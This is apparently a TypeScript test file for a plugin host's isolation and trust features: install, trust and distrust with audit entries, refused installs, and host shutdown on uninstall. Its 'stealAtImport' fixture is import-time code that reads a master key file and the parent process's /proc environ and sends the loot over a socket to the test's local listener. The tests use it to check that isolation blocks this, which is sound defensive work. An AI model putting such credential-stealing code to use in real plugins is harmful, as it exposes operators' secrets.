import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createFixtureRoot, writePlugin } from '../registry/plugin-fixtures.js';
import { processAlive } from '../support/child-process.js';
import { startTestJunction, type TestJunction } from '../support/start-junction.js';
import { until } from '../support/until.js';

let fixtures: Awaited<ReturnType<typeof createFixtureRoot>>;
let dataDir: string;
let t: TestJunction;
let client: pg.Client;
let listener: net.Server;
let listenerPort = 0;
/** What import-time code of the fixtures sent out (each line is JSON). */
const received: string[] = [];

/** Code a plugin runs when imported: it steals what it can and sends it to the test's listener. */
const stealAtImport = (tag: string, keyFile: string, written: string) => `
import stealFs from 'node:fs';
import stealNet from 'node:net';
if (!process.env.JUNCTION_FIXTURE_MANIFEST) {
  const tryIt = (fn) => { try { return fn(); } catch (e) { return 'refused: ' + (e.code ?? e.message); } };
  const loot = {
    tag: ${JSON.stringify(tag)},
    key: tryIt(() => stealFs.readFileSync(${JSON.stringify(keyFile)}, 'utf8')),
    parentEnv: tryIt(() => stealFs.readFileSync('/proc/' + process.ppid + '/environ', 'utf8')),
    env: Object.keys(process.env),
    write: tryIt(() => stealFs.writeFileSync(${JSON.stringify(written)}, 'x')),
  };
  const socket = stealNet.connect(${listenerPort}, '127.0.0.1', () => socket.end(JSON.stringify(loot) + '\\n'));
  socket.on('error', () => {});
}
`;

function post(url: string, body?: unknown) {
  return t.request(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
}

beforeAll(async () => {
  listener = net.createServer((socket) => {
    let text = '';
    socket.on('data', (d) => {
      text += d.toString();
    });
    socket.on('end', () => received.push(text));
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', () => resolve()));
  listenerPort = (listener.address() as net.AddressInfo).port;
  fixtures = await createFixtureRoot();
  dataDir = await mkdtemp(path.join(os.tmpdir(), 'junction-data-'));
  const builtinDir = path.join(fixtures.dir, 'builtins');
  await writePlugin(builtinDir, { id: 'builtin-echo', manifest: 'omit' });
  t = await startTestJunction(
    // What trust changes is tested under the default isolation (`installed`), whatever the run's.
    { JUNCTION_DATA_DIR: dataDir, JUNCTION_PLUGIN_ISOLATION: 'installed' },
    { plugins: { builtinDir, maxBytes: 1_000_000, maxFiles: 60 } },
  );
  client = new pg.Client({ connectionString: t.database.url });
  await client.connect();
});

afterAll(async () => {
  await client?.end();
  await t?.close();
  listener?.close();
  await fixtures?.remove();
  await rm(dataDir, { recursive: true, force: true });
});

const callAction = (version: string, id = 'trust-notes') =>
  t.junction.services.executor.execute({
    connector: t.junction.plugins.catalogue.getConnector(id, version) as never,
    operation: { kind: 'action', action: 'create-note', input: { title: 'x' } },
    credentials: {},
    connection: { id: 'c', name: 'c' },
    idempotencyKey: 'k',
    timeoutMs: 20_000,
  });

describe('plugin isolation and trust', () => {
  it('runs an installed plugin isolated until an operator trusts that version (audited)', async () => {
    const dir = await writePlugin(fixtures.dir, { id: 'trust-notes' });
    const installed = await post('/v1/plugins', { source: { kind: 'folder', path: dir } });
    expect(installed.status, await installed.clone().text()).toBe(201);
    expect(await installed.json()).toMatchObject({ isolation: 'isolated', trusted: false });
    expect(t.junction.plugins.catalogue.getConnector('trust-notes')?.isolated).toBeDefined();
    expect(await callAction('1.0.0')).toEqual({ ok: true, output: { id: 'n-x' } });

    const trusted = await post('/v1/plugins/trust-notes/versions/1.0.0/trust');
    expect(trusted.status).toBe(200);
    expect(await trusted.json()).toMatchObject({ isolation: 'trusted', trusted: true });
    expect(t.junction.plugins.catalogue.getConnector('trust-notes')?.isolated).toBeUndefined();
    expect(await callAction('1.0.0')).toEqual({ ok: true, output: { id: 'n-x' } });

    const listed = (await (await t.request('/v1/plugins/trust-notes')).json()) as {
      versions: { isolation: string }[];
    };
    expect(listed.versions[0]?.isolation).toBe('trusted');
    const builtin = (await (await t.request('/v1/plugins/builtin-echo')).json()) as {
      versions: { isolation: string }[];
    };
    expect(builtin.versions[0]?.isolation).toBe('trusted');

    expect((await post('/v1/plugins/trust-notes/versions/1.0.0/distrust')).status).toBe(200);
    expect(t.junction.plugins.catalogue.getConnector('trust-notes')?.isolated).toBeDefined();
    const audit = await client.query(
      `select action, data from audit_entries where subject_id = 'trust-notes@1.0.0' order by seq`,
    );
    expect(audit.rows.map((r) => r.action)).toEqual([
      'plugin.install',
      'plugin.trust',
      'plugin.distrust',
    ]);
    expect(audit.rows[1]?.data).toMatchObject({
      before: { trusted: false },
      after: { trusted: true },
    });
    const missing = await post('/v1/plugins/trust-notes/versions/9.9.9/trust');
    expect(missing.status).toBe(404);
  });

  it('a plugin stealing at import gets no key, no environment and writes nothing; Junction serves on', async () => {
    const keyFile = path.join(dataDir, 'master.key');
    await writeFile(keyFile, 'the-master-key-0123');
    const written = path.join(dataDir, 'stolen.txt');
    const dir = await writePlugin(fixtures.dir, {
      id: 'thief',
      extraCode: stealAtImport('thief', keyFile, written),
    });
    const installed = await post('/v1/plugins', { source: { kind: 'folder', path: dir } });
    expect(installed.status, await installed.clone().text()).toBe(201);
    // A serving host imports it again and stays up: its loot gets out whole.
    const thief = t.junction.plugins.catalogue.getConnector('thief');
    expect(thief?.isolated).toBeDefined();
    await t.junction.services.executor.execute({
      connector: thief as never,
      operation: { kind: 'action', action: 'create-note', input: { title: 'x' } },
      credentials: {},
      connection: { id: 'c', name: 'c' },
      idempotencyKey: 'k',
      timeoutMs: 20_000,
    });
    const sent = () => received.filter((r) => r.includes('"thief"'));
    await expect.poll(() => sent().length, { timeout: 20_000 }).toBeGreaterThan(0);
    const loot = sent().map((r) => JSON.parse(r) as Record<string, unknown>);
    for (const l of loot) {
      expect(l.key).toMatch(/^refused: ERR_ACCESS_DENIED/);
      expect(l.parentEnv).toMatch(/^refused: ERR_ACCESS_DENIED/);
      expect(l.write).toMatch(/^refused: ERR_ACCESS_DENIED/);
      expect(l.env).not.toContain('DATABASE_URL');
      expect(l.env).not.toContain('JUNCTION_SECRET_KEY');
      expect(l.env).not.toContain('JUNCTION_ADMIN_TOKEN');
    }
    expect(JSON.stringify(loot)).not.toContain('the-master-key');
    expect(existsSync(written)).toBe(false);
    expect((await t.request('/healthz', { token: null })).status).toBe(200);
  });

  it('a refused install (its id taken) runs none of its code', async () => {
    const before = received.length;
    const keyFile = path.join(dataDir, 'master.key');
    const dir = await writePlugin(fixtures.dir, {
      id: 'builtin-echo',
      packageName: 'junction-plugin-impostor',
      extraCode: stealAtImport('impostor', keyFile, path.join(dataDir, 'x.txt')),
    });
    const refused = await post('/v1/plugins', { source: { kind: 'folder', path: dir } });
    expect(refused.status).toBe(409);
    // Given time to connect had it run: nothing arrives.
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect(received.slice(before).filter((r) => r.includes('impostor'))).toEqual([]);
  });

  it('stops the hosts of a version that is uninstalled: their processes are gone', async () => {
    const dir = await writePlugin(fixtures.dir, { id: 'gone-notes' });
    const installed = await post('/v1/plugins', { source: { kind: 'folder', path: dir } });
    expect(installed.status, await installed.clone().text()).toBe(201);
    expect(await callAction('1.0.0', 'gone-notes')).toEqual({ ok: true, output: { id: 'n-x' } });
    // Its hosts, found by their command line (the host entry, then the version's label).
    const hosts = readdirSync('/proc')
      .filter((name) => /^\d+$/.test(name))
      .filter((pid) => {
        let args: string[] = [];
        try {
          args = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\u0000');
        } catch {
          // A process that ended meanwhile.
        }
        return args.some((a) => a.endsWith('host-entry.js')) && args.includes('gone-notes@1.0.0');
      })
      .map(Number);
    expect(hosts.length).toBeGreaterThan(0);
    const removed = await t.request('/v1/plugins/gone-notes/versions/1.0.0', { method: 'DELETE' });
    expect(removed.status).toBe(204);
    await until(async () => hosts.every((pid) => !processAlive(pid)));
    expect(t.junction.plugins.hosts.stats()['gone-notes@1.0.0']).toBeUndefined();
  });
});
